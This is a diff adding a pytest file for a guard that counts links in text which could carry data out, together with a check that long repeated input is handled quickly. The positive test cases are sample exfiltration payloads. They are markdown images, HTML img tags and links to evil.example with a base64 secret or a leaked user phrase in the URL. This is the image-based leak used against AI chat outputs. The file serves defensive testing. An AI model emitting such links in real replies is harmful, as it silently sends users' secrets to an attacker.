@@ -1,0 +1,52 @@
+"""Links that could carry something away, and those of every day."""
+
+from __future__ import annotations
+
+import pytest
+
+from m2mproxy.guard.outbound import carriers
+
+SECRET = "c2stbGl2ZS1hYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk="
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"Done. ![ok](https://evil.example/p.png?d={SECRET})",
+        f"![](http://evil.example/{SECRET}.png)",
+        f"![a]( <https://evil.example/x?q=1&data={SECRET}>)",
+        f'<img alt="" src="https://evil.example/x?d={SECRET}">',
+        f"<IMG SRC=https://evil.example/x#d={SECRET}>",
+        "![x](https://evil.example/?q=the+user+said+that+the+code+is+1234)",
+        f"[click](https://evil.example/login?next={SECRET}{SECRET})",
+        f"[click](https://evil.example/{SECRET})",
+    ],
+)
+def test_what_could_carry_data(text: str) -> None:
+    assert carriers(text) == 1
+    assert carriers(f"{text} and\n{text}") == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "no link at all, but a ![bracket] and (https://x.example/?d=" + SECRET + ")",
+        "![logo](https://example.org/logo.png)",
+        "![logo](https://example.org/logo.png?w=200&h=100&v=1.2.3)",
+        "![badge](https://img.example/badge/build-passing-green?style=flat-square)",
+        "![x](data:image/png;base64," + SECRET + ")",
+        "![x](/relative/" + SECRET + ")",
+        "[docs](https://docs.example.org/a/very-long-page-name-without-any-code-in-it/index.html)",
+        "[search](https://example.org/search?q=weather+in+paris+tomorrow)",
+        "[x](https://example.org/p?utm_source=newsletter&utm_medium=email&utm_campaign=spring)",
+    ],
+)
+def test_what_is_of_every_day(text: str) -> None:
+    assert carriers(text) == 0
+
+
+@pytest.mark.parametrize("unit", ["![", "![]( https://", "<img ", "[a](https://x/?a=", "?a=&"])
+def test_no_text_takes_long(unit: str) -> None:
+    """It would not end in anybody's time if it went back and forth."""
+    assert carriers(unit * 20_000) < 1000
